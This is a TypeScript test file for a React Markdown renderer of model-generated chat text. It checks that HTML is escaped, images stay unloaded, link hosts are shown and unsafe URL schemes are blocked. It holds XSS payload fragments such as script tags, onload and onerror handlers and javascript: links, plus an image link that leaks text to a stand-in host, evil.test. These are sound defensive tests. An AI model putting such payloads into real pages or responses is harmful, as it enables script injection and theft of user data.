import * as fc from "fast-check"
import { createElement } from "react"
import { renderToStaticMarkup } from "react-dom/server"
import { expect, it } from "vitest"
import { Markdown, MarkdownInProgress, type Node, renumber } from "../../src/conversation/Markdown.tsx"

const htmlOf = (text: string): string => renderToStaticMarkup(createElement(Markdown, { text }))

it("text of a model becomes paragraphs, code and tables", () => {
  const html = htmlOf(
    "# Head\n\nSome **bold** text.\n\n```nix\nconst a = 1\n```\n\n| a |\n|---|\n| b |\n\n- [x] done\n"
  )
  expect(html).toContain('<h3 class="depth-1">Head</h3>')
  expect(html).toContain("<strong>bold</strong>")
  expect(html).toContain('<code class="language-nix">const a = 1\n</code>')
  expect(html).toContain("<td>b</td>")
  expect(html).toContain("☑")
})

it("HTML in it is shown as text", () => {
  const html = htmlOf('<img src="https://evil.test/a.png" onerror="alert(1)">\n\nA <b onclick="x()">word</b>.\n')
  expect(html).not.toMatch(/<img|<b[ >]/)
  expect(html).toContain("&lt;img src=&quot;https://evil.test/a.png&quot; onerror=&quot;alert(1)&quot;&gt;")
  expect(html).toContain("&lt;b onclick=&quot;x()&quot;&gt;word&lt;/b&gt;")
})

it("an image is its description and its address, and is not loaded", () => {
  const html = htmlOf("![a chart](https://evil.test/leak?text=secret)")
  expect(html).not.toContain("<img")
  expect(html).toContain("Image “a chart”, not loaded: https://evil.test/leak?text=secret")
})

it("a link opens in a tab of its own, and names a host that its text does not name", () => {
  const html = htmlOf("[your bank](https://evil.test/login)")
  expect(html).toContain('href="https://evil.test/login" target="_blank" rel="noopener noreferrer nofollow"')
  expect(html).toContain("(evil.test)")
  expect(htmlOf("<https://docs.test/a>")).not.toContain("(docs.test)")
  expect(htmlOf("[bank.test](https://evil.test)")).toContain("(evil.test)")
})

it("no address of another kind can be followed", () => {
  for (const address of [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc",
    "/docs"
  ]) {
    expect([address, htmlOf(`[a](${address})`)]).toEqual([address, '<div class="markdown"><p><span>a</span></p></div>'])
  }
})

/** Pieces of an attack, in any order, inside Markdown. */
const hostile = fc.array(
  fc.constantFrom(
    "<script>alert(1)</script>",
    '<svg onload="alert(1)">',
    "<style>*{display:none}</style>",
    '<iframe src="https://evil.test">',
    '<a href="javascript:alert(1)">x</a>',
    "![x](https://evil.test/x.png)",
    "![x][r]",
    "[r]: https://evil.test/y.png",
    "[x](javascript:alert(1))",
    "<details open ontoggle=alert(1)>",
    "<!--",
    "]]>",
    "`",
    "```html",
    "\n",
    "\n\n",
    "- ",
    "> ",
    "| a | b |\n|---|---|\n",
    "**",
    "text"
  ),
  { maxLength: 25, size: "max" }
)

/** Every tag that may appear, with the attributes that it may have. */
const TAG = /<(\/?)(\w+)((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/g
const TAGS: ReadonlySet<string> = new Set(
  "div p span a strong em del code pre button table thead tbody tr th td ul ol li blockquote h3 h4 h5 h6 hr br section sup".split(
    " "
  )
)
const ATTRIBUTES =
  /^(?:class|href|target|rel|referrerPolicy|title|tabindex|role|aria-[\w-]+|id|start|data-[\w-]+|style|dir|type|align)$/i

it("nothing of a hostile text runs, loads or has a handler, whole or arriving", () => {
  fc.assert(
    fc.property(hostile, (pieces) => {
      for (const component of [Markdown, MarkdownInProgress]) {
        const html = renderToStaticMarkup(createElement(component, { text: pieces.join("") }))
        for (const [, , tag = "", attributes = ""] of html.matchAll(TAG)) {
          expect(TAGS).toContain(tag)
          for (const [, name = ""] of attributes.matchAll(/([\w-]+)(?:="[^"]*")?/g)) expect(name).toMatch(ATTRIBUTES)
        }
        expect(html).not.toMatch(/href="(?!https?:|mailto:)/i)
        expect(html.replaceAll(TAG, "")).not.toMatch(/<\w/)
      }
    }),
    { numRuns: 150 }
  )
})

const levelsOf = (depths: ReadonlyArray<number>): ReadonlyArray<number> => {
  const tree: Node = { type: "root", children: depths.map((n) => ({ type: "element", tagName: `h${n}` })) }
  renumber()(tree)
  return (tree.children ?? []).map(({ tagName }) => Number(tagName?.slice(1)))
}

it("headings begin at level 3 and keep their nesting", () => {
  expect(levelsOf([1, 2, 3, 2, 1])).toEqual([3, 4, 5, 4, 3])
  expect(levelsOf([4, 2, 4])).toEqual([3, 3, 4])
})

it("no heading is more than one level deeper than the heading before it, or above level 3", () => {
  fc.assert(
    fc.property(fc.array(fc.integer({ min: 1, max: 6 })), (depths) => {
      let before = 2
      for (const level of levelsOf(depths)) {
        expect(level).toBeGreaterThanOrEqual(3)
        expect(level).toBeLessThanOrEqual(Math.min(6, before + 1))
        before = level
      }
    })
  )
})
